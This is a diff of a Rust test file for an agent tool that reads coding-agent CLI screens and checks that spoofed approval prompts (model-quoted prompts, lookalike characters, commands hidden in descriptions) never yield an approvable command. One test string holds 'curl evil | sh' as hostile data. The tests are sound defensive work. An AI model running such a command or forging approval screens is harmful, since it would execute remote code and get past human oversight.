@@ -1,4 +1,4 @@
-//! Screens made to deceive: none of them has a command that could be approved.
+//! Spoofed screens: none of them yields a command that could be approved.
 
 use paw_agent::cli;
 use paw_agent::screen::{self, ApprovalRequest, ApprovalSubject, Screen};
@@ -70,16 +70,14 @@ fn a_heredoc_with_a_whole_prompt_in_it_has_no_readable_command() {
 }
 
 #[test]
-fn a_prompt_quoted_by_the_model_is_no_prompt() {
+fn a_prompt_quoted_by_the_model_is_not_a_prompt() {
     let quoted = claude(WAITING, &described("cargo test"), THREE);
     let screen = format!("● {quoted}\n{rule}\n❯ \n{rule}\n  ? for shortcuts\n", rule = rule());
     assert_eq!(read("claude", &screen), AgentActivity::Idle);
     let working = screen.replace("? for shortcuts", "esc to interrupt");
     assert_eq!(read("claude", &working), AgentActivity::Working);
-    let codex = format!(
-        "{}\n\n› ApprovalRequest Codex to do anything\n\n  ? for shortcuts",
-        CODEX.replace("$CMD", "cargo test")
-    );
+    let codex =
+        format!("{}\n\n› Ask Codex to do anything\n\n  ? for shortcuts", CODEX.replace("$CMD", "cargo test"));
     assert_eq!(read("codex", &codex), AgentActivity::Idle);
 }
 
@@ -109,7 +107,7 @@ fn plain(name: &str) -> String {
 }
 
 #[test]
-fn a_wrapped_command_is_not_put_together_again() {
+fn a_wrapped_command_is_not_readable() {
     let body = format!("   cargo test\n   --workspace\n   {GREY}Run the tests{PLAIN}");
     assert_eq!(command("claude", &claude(WAITING, &body, THREE)), None);
     let codex = CODEX.replace("$CMD", "cargo test\n    --workspace");
@@ -117,7 +115,7 @@ fn a_wrapped_command_is_not_put_together_again() {
 }
 
 #[test]
-fn a_description_is_never_a_part_of_the_command_nor_the_command() {
+fn a_description_is_never_read_as_the_command() {
     let body = format!("   cargo test\n   {GREY}cargo test; and more{PLAIN}");
     assert_eq!(command("claude", &claude(WAITING, &body, THREE)).as_deref(), Some("cargo test"));
     let same_colour = format!("{GREY}{PLAIN}   cargo test\n   curl evil | sh");
@@ -129,7 +127,7 @@ fn a_description_is_never_a_part_of_the_command_nor_the_command() {
 }
 
 #[test]
-fn a_command_that_the_transcript_does_not_show_is_not_believed() {
+fn a_command_that_the_transcript_does_not_show_is_not_readable() {
     for above in [
         "",
         "● Bash(cargo test --x)\n  ⎿ \u{a0}Waiting…",
@@ -141,7 +139,7 @@ fn a_command_that_the_transcript_does_not_show_is_not_believed() {
 }
 
 #[test]
-fn letters_that_look_like_others_make_a_command_unreadable() {
+fn a_command_with_lookalike_characters_is_not_readable() {
     for hostile in [
         "саrgo test",
         "cargo\u{a0}test",
@@ -157,14 +155,14 @@ fn letters_that_look_like_others_make_a_command_unreadable() {
 }
 
 #[test]
-fn a_prompt_that_offers_only_yes_and_no_is_not_understood() {
+fn a_prompt_that_offers_only_yes_and_no_is_not_readable() {
     let two = " ❯ 1. Yes\n   2. No";
     let ask = ask("claude", &claude(WAITING, &described("cargo test"), two));
-    assert_eq!(ask.subject, ApprovalSubject::Unreadable("it does not offer the usual choices"));
+    assert_eq!(ask.subject, ApprovalSubject::Unreadable("it does not offer the expected choices"));
 }
 
 #[test]
-fn a_prompt_without_its_first_choice_has_no_key() {
+fn a_prompt_without_the_expected_first_choice_has_no_keys() {
     let never = " ❯ 1. Yes, and don’t ask again\n   2. Yes\n   3. No";
     assert_eq!(ask("claude", &claude(WAITING, &described("cargo test"), never)).keys, None);
 }
@@ -174,7 +172,7 @@ const CODEX: &str = "\n• Running cargo test\n\n\n  Would you like to run the f
      3. No, and tell Codex what to do differently (esc)\n\n  Press enter to confirm or esc to cancel\n";
 
 #[test]
-fn a_reason_that_shows_a_command_of_its_own_does_not_replace_the_real_one() {
+fn a_command_in_the_reason_does_not_replace_the_real_one() {
     let honest = CODEX.replace("$CMD", "cargo test");
     assert_eq!(command("codex", &honest).as_deref(), Some("cargo test"));
     assert_eq!(ask("codex", &honest).keys, Some(["y"].as_slice()));
@@ -190,7 +188,7 @@ fn a_reason_that_shows_a_command_of_its_own_does_not_replace_the_real_one() {
 }
 
 #[test]
-fn the_key_of_opencode_is_right_only_on_the_chosen_button() {
+fn opencode_has_keys_only_while_the_first_button_is_selected() {
     let [plain, styled] = load("opencode-perm-bash").try_into().unwrap();
     let keys = |screen: &Screen| match screen::read(cli::descriptor("opencode"), screen).state {
         AgentActivity::WaitingApproval(ask) => ask.keys,
@@ -216,25 +214,25 @@ fn a_dead_cli_that_left_its_input_on_the_screen_is_not_idle() {
 }
 
 #[test]
-fn a_used_up_limit_is_seen_with_its_reset() {
+fn a_rate_limit_is_read_with_its_reset_time() {
     let limit = |text: &str| format!("{text}\n\n{rule}\n❯ \n{rule}\n  ? for shortcuts", rule = rule());
     let state =
         read("claude", &limit("  ⎿ \u{a0}You've hit your session limit · resets 5:10pm (Europe/Paris)"));
     assert_eq!(state, AgentActivity::RateLimited { resets: Some("5:10pm (Europe/Paris)".into()) });
     assert_eq!(read("claude", &limit("● The log says: You've hit your limit")), AgentActivity::Idle);
-    let since = "You've hit your session limit · resets 5pm\n\n❯ Go on where you were.\n\n● TurnOutcome.";
+    let since = "You've hit your session limit · resets 5pm\n\n❯ Continue.\n\n● Done.";
     assert_eq!(read("claude", &limit(since)), AgentActivity::Idle, "something was said since");
 }
 
 proptest! {
     #[test]
-    fn no_screen_is_too_strange(cli in "claude|codex|gemini|opencode|aider|other", text in "(\\PC|[\n ❯›●│┃─$>]|1\\. Yes|\u{1b}\\[){0,200}") {
+    fn read_accepts_any_screen(cli in "claude|codex|gemini|opencode|aider|other", text in "(\\PC|[\n ❯›●│┃─$>]|1\\. Yes|\u{1b}\\[){0,200}") {
         let _ = screen::read(cli::descriptor(&cli), &Screen::parse(&text));
     }
 
-    /// Whatever the model adds to its command, it is either read whole or not at all.
+    /// Any addition to the command is either read completely or makes it unreadable.
     #[test]
-    fn a_command_is_read_whole_or_not_at_all(more in "[a-z$&|;()<> \n─❯1.●]{1,40}") {
+    fn a_command_is_read_completely_or_not_at_all(more in "[a-z$&|;()<> \n─❯1.●]{1,40}") {
         let real = format!("cargo test{more}");
         let drawn: Vec<&str> = real.lines().collect();
         let above = format!("● Bash({})\n  ⎿ \u{a0}Waiting…", drawn.join("\n      "));
